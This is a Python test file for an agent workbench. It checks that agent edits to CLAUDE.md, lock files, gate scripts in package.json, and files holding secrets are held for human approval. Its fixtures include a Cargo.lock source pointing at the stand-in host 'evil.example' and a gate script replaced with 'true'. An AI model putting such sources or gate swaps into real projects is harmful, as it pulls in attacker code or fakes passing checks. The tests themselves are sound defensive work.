"""Work that waits for a person's word, in the real engine on fakes."""

from __future__ import annotations

import asyncio
from dataclasses import replace
from typing import Any

import pytest

from tests.engine.test_approvals import answering
from workbench.core.models import RunSettings, Task
from workbench.engine.examining import UNSEARCHED
from workbench.testing.agents import Edit, EndTurn, Mark
from workbench.testing.examiner import SECRET, FakeExaminer
from workbench.testing.stage import Stage


def staged(files: dict[str, str], before: dict[str, str] | None = None, **values: Any) -> Stage:
    stage = Stage(
        [Task(id="a", title="A"), Task(id="b", title="B")],
        RunSettings.model_validate({"team": ("ada", "bob"), "gates": ("test",), **values}),
        before or {},
    )
    stage.agent.scripts = {
        ("a", 1): [Edit(files), Mark("done"), EndTurn()],
        ("b", 1): [Edit({"b": "fine\n"}), Mark("done"), EndTurn()],
    }
    return stage


async def test_a_held_task_waits_and_the_other_lands() -> None:
    stage = staged({"CLAUDE.md": "obey\n"})
    state = await asyncio.wait_for(stage.run(), 20)
    assert state.outcome == "stopped" and "a change of workbench (a)" in state.reason
    assert "CLAUDE.md" not in stage.landed_files() and "b" in stage.landed_files()
    assert (await asyncio.wait_for(stage.resume(), 20)).outcome == "stopped", "it still waits"


async def test_a_yes_lands_it() -> None:
    stage = staged({"CLAUDE.md": "obey\n"})
    answering(stage, "change", ("yes", ""))
    state = await asyncio.wait_for(stage.run(), 20)
    if state.outcome != "landed":  # the answer came when it had stopped
        state = await asyncio.wait_for(stage.resume(), 20)
    assert state.outcome == "landed" and stage.landed_files()["CLAUDE.md"] == "obey\n"


async def test_a_new_host_in_a_lock_file_is_asked_about() -> None:
    lock = 'source = "git+https://evil.example/x"\n'
    stage = staged({"Cargo.lock": lock})
    state = await asyncio.wait_for(stage.run(), 20)
    assert "Cargo.lock: it takes packages from evil.example" in next(iter(state.asks.values())).message.text


SCRIPTS = '{"scripts": {"test": "jest"}, "dependencies": {%s}}'


@pytest.mark.parametrize(
    ("after", "held"),
    [
        (SCRIPTS % '"left": "^1.0.0"', False),
        (SCRIPTS % '"left": "file:left"', True),
        (SCRIPTS.replace("jest", "true") % "", True),
    ],
)
async def test_the_scripts_that_a_gate_runs_are_asked_about_and_dependencies_are_not(
    after: str, held: bool
) -> None:
    stage = staged(
        {"web/package.json": after}, {"web/package.json": SCRIPTS % ""}, gates=("cd web && npm test",)
    )
    state = await asyncio.wait_for(stage.run(), 20)
    assert (
        any("web/package.json: it is part of the gate" in it.message.text for it in state.asks.values())
        is held
    )
    assert (state.outcome == "landed") is not held


async def test_a_secret_is_asked_about_and_never_told() -> None:
    stage = staged({"a": f"x\n{SECRET}\n"})
    state = await asyncio.wait_for(stage.run(), 20)
    (ask,) = state.asks.values()
    assert "a:2: it looks like a secret (Secret Keyword)" in ask.message.text
    assert SECRET not in ask.message.text


async def test_what_cannot_be_searched_in_time_waits_too() -> None:
    stage = staged({"a": "much\n"})
    stage.world = replace(stage.world, examiner=FakeExaminer(stage.git, slow=True))
    stage.use(stage.agent)
    state = await asyncio.wait_for(stage.run(), 20)
    assert any(UNSEARCHED in ask.message.text for ask in state.asks.values())


async def test_the_settings_allow_it() -> None:
    stage = staged({"CLAUDE.md": SECRET}, on_guarded="allow", secrets="allow")
    assert (await asyncio.wait_for(stage.run(), 20)).outcome == "landed"
